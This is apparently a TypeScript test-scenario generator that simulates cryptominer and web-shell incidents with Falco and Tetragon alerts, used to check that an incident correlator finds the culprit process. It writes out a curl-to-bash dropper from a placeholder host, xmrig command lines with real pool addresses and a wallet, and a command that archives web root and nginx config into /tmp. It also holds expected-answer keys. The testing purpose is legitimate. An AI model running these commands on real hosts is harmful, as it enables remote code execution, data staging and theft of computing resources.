import { falcoAlert, tetragonExec, tetragonExit } from './formats';
import type { SimContainer, SimProcess, SimService } from './host';
import { burst } from './host';
import type { Rng } from './rng';
import type { Builder, World } from './world';
import { MINUTE } from './world';

/** The kinds that must give one correlated incident naming the process behind the spike. */

export const MINERS = [
  {
    dir: '/tmp/.X11-unix/.xm',
    name: 'xmrig',
    flags:
      '-o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --donate-level 1',
  },
  { dir: '/dev/shm/.cache', name: 'kdevtmpfsi', flags: '' },
  { dir: '/var/tmp/.sys', name: 'kworkerds', flags: '--background' },
  { dir: '/tmp/xmrig-6.21.0', name: 'xmrig', flags: '--url pool.hashvault.pro:443 --tls --user 4Bx3 --threads AUTO' },
  { dir: '/tmp/.ICE-unix', name: 'sysupdate', flags: '-c /tmp/.ICE-unix/config.json' },
];

export const MINER_RULES = [
  {
    rule: 'Detect crypto miners using the Stratum protocol',
    priority: 'Critical',
    message: 'Possible miner running',
    tags: ['host', 'mitre_impact'],
  },
  {
    rule: 'Outbound Connection to C2 Servers',
    priority: 'Warning',
    message: 'Outbound connection to C2 server',
    tags: ['network', 'mitre_command_and_control'],
  },
  {
    rule: 'Execution from /tmp',
    priority: 'Error',
    message: 'Executable launched from a temporary directory',
    tags: ['host', 'mitre_execution'],
  },
  {
    rule: 'Drop and execute new binary in container',
    priority: 'Critical',
    message: 'Executing binary not part of base image',
    tags: ['container', 'mitre_persistence'],
  },
] as const;

interface MinerOptions {
  withPid: boolean;
  /** Cores the miner takes, as a share of the host. */
  share: number;
  container?: SimContainer;
  pid?: number;
}

/** A miner dropped into a temp directory by a shell, with Falco alerting on it (possibly repeatedly). */
function addMiner(world: World, rng: Rng, options: MinerOptions): SimProcess {
  const spec = rng.pick(MINERS);
  const threads = Math.max(1, Math.round(world.host.cpus * options.share));
  const exe = `${spec.dir}/${spec.name}`;
  const dropper = world.process({
    ppid: 1,
    name: 'bash',
    exe: '/usr/bin/bash',
    cmdline: `bash -c curl -fsSL http://203.0.113.${rng.int(2, 250)}/ldr.sh | bash`,
    owner: rng.pick(['www-data', 'root', 'ubuntu']),
    start: world.spikeStart - rng.between(5_000, 20_000),
    end: world.spikeStart + 2_000,
    load: () => 0.01,
    ...(options.container === undefined ? {} : { containerId: options.container.id }),
  });
  const killed = rng.chance(0.6);
  const miner = world.process({
    ...(options.pid === undefined ? {} : { pid: options.pid }),
    ppid: dropper.pid,
    name: spec.name,
    exe,
    cmdline: `${exe} ${spec.flags}`.trim(),
    owner: dropper.owner,
    start: world.spikeStart,
    ...(killed ? { end: world.spikeEnd } : {}),
    load: burst(0, threads * 0.97, world.spikeStart, killed ? world.spikeEnd : world.window.to + MINUTE, 5_000),
    ...(options.container === undefined ? {} : { containerId: options.container.id }),
  });
  const rule = options.container === undefined ? rng.pick(MINER_RULES.slice(0, 3)) : rng.pick(MINER_RULES);
  const first = world.spikeStart + rng.between(1_000, 40_000);
  const shortContainer =
    options.container === undefined
      ? undefined
      : {
          id: options.container.id.slice(0, 12),
          name: options.container.name,
          ...(options.container.pod === undefined ? {} : { pod: options.container.pod }),
          ...(options.container.namespace === undefined ? {} : { namespace: options.container.namespace }),
        };
  for (const time of world.alertTimes(first, rng.int(1, 8))) {
    if (killed && time > world.spikeEnd) break;
    world.addFalco(
      time,
      falcoAlert({
        time,
        rule: rule.rule,
        priority: rule.priority,
        host: world.host.name,
        process: miner,
        parent: dropper,
        withPid: options.withPid,
        message: rule.message,
        tags: [...rule.tags],
        extra: { 'fd.name': `10.0.0.5:${rng.int(40000, 60000)}->198.51.100.${rng.int(2, 250)}:3333` },
        ...(shortContainer === undefined ? {} : { container: shortContainer }),
      }),
    );
  }
  return miner;
}

export const miner: Builder = (world, rng) => {
  const process = addMiner(world, rng, { withPid: true, share: rng.between(0.4, 1) });
  return {
    description: `cryptominer ${process.exe} (pid ${process.pid}) on ${world.host.cpus} cpus, Falco with proc.pid`,
    expect: { correlated: true, culprit: { pid: process.pid, name: process.name }, anomaly: 'cpu' },
  };
};

export const minerNoPid: Builder = (world, rng) => {
  const process = addMiner(world, rng, { withPid: false, share: rng.between(0.4, 1) });
  return {
    description: `cryptominer ${process.exe} (pid ${process.pid}) on ${world.host.cpus} cpus, Falco without proc.pid`,
    expect: { correlated: true, culprit: { pid: process.pid, name: process.name }, anomaly: 'cpu' },
  };
};

const COMPRESSORS = [
  { name: 'xz', exe: '/usr/bin/xz', args: '-9 -T0', threaded: true },
  { name: 'zstd', exe: '/usr/bin/zstd', args: '-19 -T0', threaded: true },
  { name: 'gzip', exe: '/usr/bin/gzip', args: '-9', threaded: false },
  { name: 'bzip2', exe: '/usr/bin/bzip2', args: '-9', threaded: false },
];

export const webShellCompressor: Builder = (world, rng) => {
  const { worker } = world.nginx();
  // A single-threaded gzip is 1/16 or less of a wide host's cores: no spike anyone sees, so none to explain.
  const compressor = rng.pick(world.wide && world.host.cpus > 8 ? COMPRESSORS.filter((c) => c.threaded) : COMPRESSORS);
  const out = rng.pick(['/tmp/.w/site.tar', '/dev/shm/x', '/var/tmp/db']);
  const start = world.spikeStart - rng.between(500, 3_000);
  const shell = world.process({
    ppid: worker.pid,
    name: 'sh',
    exe: '/usr/bin/dash',
    cmdline: `sh -c tar -cf - /var/www/html /etc/nginx | ${compressor.name} ${compressor.args} > ${out}`,
    owner: 'www-data',
    start,
    end: world.spikeEnd + 1_000,
    load: () => 0.001,
  });
  const tar = world.process({
    ppid: shell.pid,
    name: 'tar',
    exe: '/usr/bin/tar',
    cmdline: 'tar -cf - /var/www/html /etc/nginx',
    owner: 'www-data',
    start: start + 5,
    end: world.spikeEnd,
    load: burst(0, 0.12, world.spikeStart, world.spikeEnd),
  });
  const cores = compressor.threaded ? Math.max(1, Math.round(world.host.cpus * rng.between(0.5, 0.9))) : 1;
  const packer = world.process({
    ppid: shell.pid,
    name: compressor.name,
    exe: compressor.exe,
    cmdline: `${compressor.name} ${compressor.args}`,
    owner: 'www-data',
    start: start + 6,
    end: world.spikeEnd,
    load: burst(0, cores * 0.97, world.spikeStart, world.spikeEnd, 5_000),
  });
  for (const [process, parent] of [
    [shell, worker],
    [tar, shell],
    [packer, shell],
  ] as const) {
    world.tetragon.push({ time: process.start, line: tetragonExec(world.host.name, process, parent) });
    const end = process.end ?? world.window.to;
    world.tetragon.push({ time: end, line: tetragonExit(world.host.name, process, parent, end) });
  }
  const alertAt = start + rng.between(50, 2_000);
  world.addFalco(
    alertAt,
    falcoAlert({
      time: alertAt,
      rule: 'Run shell untrusted',
      priority: 'Notice',
      host: world.host.name,
      process: shell,
      parent: worker,
      withPid: rng.chance(0.5),
      message: 'Shell spawned by untrusted binary',
      tags: ['host', 'container', 'process', 'shell', 'mitre_execution', 'T1059.004'],
    }),
  );
  return {
    description: `nginx worker -> sh -> ${compressor.name} (${cores} cores) on ${world.host.cpus} cpus`,
    expect: { correlated: true, culprit: { pid: packer.pid, name: packer.name }, anomaly: 'cpu' },
  };
};

export const containerMiner: Builder = (world, rng) => {
  const apps = [
    { name: 'web', proc: 'nginx', exe: '/usr/sbin/nginx', cmdline: 'nginx: worker process', load: 0.05 },
    { name: 'api', proc: 'node', exe: '/usr/local/bin/node', cmdline: 'node dist/server.js', load: 0.2 },
    {
      name: 'worker',
      proc: 'python',
      exe: '/usr/local/bin/python3.12',
      cmdline: 'python -m celery worker',
      load: 0.15,
    },
    {
      name: 'db',
      proc: 'postgres',
      exe: '/usr/lib/postgresql/16/bin/postgres',
      cmdline: 'postgres -D /var/lib/postgresql/data',
      load: 0.2,
    },
    {
      name: 'cache',
      proc: 'redis-server',
      exe: '/usr/local/bin/redis-server',
      cmdline: 'redis-server *:6379',
      load: 0.05,
    },
  ];
  const count = rng.int(3, apps.length);
  world.process({
    pid: 1,
    ppid: 0,
    name: 'systemd',
    exe: '/usr/lib/systemd/systemd',
    cmdline: '/sbin/init',
    owner: 'root',
    load: () => 0.005,
  });
  world.process({
    ppid: 1,
    name: 'kubelet',
    exe: '/usr/bin/kubelet',
    cmdline: '/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml',
    owner: 'root',
    load: world.steady(0.03 * world.host.cpus),
  });
  for (const app of apps.slice(0, count)) {
    const container: SimContainer = {
      id: rng.hex(64),
      name: app.name,
      pod: `${app.name}-${rng.hex(10)}-${rng.hex(5)}`,
      namespace: 'shop',
    };
    world.host.containers.push(container);
    world.process({
      ppid: 1,
      name: app.proc,
      exe: app.exe,
      cmdline: app.cmdline,
      owner: 'app',
      containerId: container.id,
      load: world.steady(app.load * world.host.cpus * 0.25),
    });
  }
  const target = rng.pick(world.host.containers);
  const process = addMiner(world, rng, { withPid: rng.chance(0.5), share: rng.between(0.3, 0.8), container: target });
  return {
    description: `miner ${process.name} (pid ${process.pid}) in container ${target.name} ${target.id.slice(0, 12)} among ${count}`,
    expect: {
      correlated: true,
      culprit: { pid: process.pid, name: process.name },
      container: target.id,
      anomaly: 'cpu',
    },
  };
};

export const minerStarvesService: Builder = (world, rng) => {
  const serviceName = rng.pick(['checkout', 'payments', 'cart', 'search']);
  const app = world.process({
    ppid: 1,
    name: 'node',
    exe: '/usr/bin/node',
    cmdline: `node /srv/${serviceName}/index.js`,
    owner: 'app',
    load: world.steady(0.1 * world.host.cpus),
  });
  // Wide: from 1.5 times slower (the issue's "latency up 1.5x") to 8 times.
  const slowdown = world.wide ? rng.between(1.5, 8) : rng.between(3, 8);
  const baseMedian = rng.between(0.02, 0.08);
  // Wide: half the services are quiet, 0.2-1.5 requests a second (a handful per scrape, at 10 s some scrapes none).
  const quiet = world.wide && rng.chance(0.5);
  const service: SimService = {
    name: serviceName,
    rate: quiet ? rng.between(0.2, 1.5) : rng.between(20, 80),
    ...(quiet ? { poisson: true } : {}),
    start: app.start,
    median: (time) => {
      if (time < world.spikeStart + 10_000 || time > world.spikeEnd) return baseMedian;
      return baseMedian * slowdown;
    },
  };
  world.host.services.push(service);
  const process = addMiner(world, rng, { withPid: rng.chance(0.5), share: 1 });
  return {
    description: `miner ${process.name} saturates ${world.host.cpus} cpus; ${serviceName} latency x${slowdown.toFixed(1)}${quiet ? ` at ${service.rate.toFixed(1)} requests/s` : ''}`,
    expect: {
      correlated: true,
      culprit: { pid: process.pid, name: process.name },
      anomaly: 'latency',
      foldsLatency: true,
    },
  };
};
